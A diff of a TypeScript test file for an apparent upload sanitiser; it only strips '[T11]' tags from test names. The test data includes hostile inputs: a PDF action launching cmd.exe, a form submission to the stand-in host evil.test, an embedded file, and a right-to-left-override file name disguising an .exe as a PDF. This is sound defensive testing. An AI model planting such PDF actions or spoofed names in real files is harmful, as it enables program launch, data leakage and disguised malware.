@@ -18,7 +18,7 @@ const bytesOf = async (sent: Buffer): Promise<Buffer> => {
 };
 
 test.each(['jpeg', 'png', 'webp'] as const)(
-  'a %s is drawn again, upright and without the place and device that a phone writes into it [T11]',
+  'a %s is drawn again, upright and without the place and device that a phone writes into it',
   async (kind) => {
     const sent = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#1f4fd8' } })
       .toFormat(kind)
@@ -79,7 +79,7 @@ test.each([
   ['starts a program', '/OpenAction<</S/Launch/F(cmd.exe)>>'],
   ['sends a form', '/AA<</WC<</S/SubmitForm/F(https://evil.test)>>>>'],
   ['carries a file', '/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/EF<</F 3 0 R>>>>]>>>>'],
-])('a PDF that %s is refused [T11]', async (_what, extra) => {
+])('a PDF that %s is refused', async (_what, extra) => {
   expect(await accept(testPdf(extra))).toBe('active');
 });
 
@@ -87,7 +87,7 @@ test('a PDF that opens at a page is taken', async () => {
   expect(typeof (await accept(testPdf('/OpenAction[3 0 R/Fit]')))).toBe('object');
 });
 
-test('a name keeps no sign that turns its direction [T11]', () => {
+test('a name keeps no sign that turns its direction', () => {
   expect(uploadedName('factura\u202Efdp.exe', 'pdf', 'adjunto')).toBe('facturafdp.pdf');
   expect(uploadedName('\u2066\u200F\u061C.pdf', 'pdf', 'adjunto')).toBe('adjunto.pdf');
 });
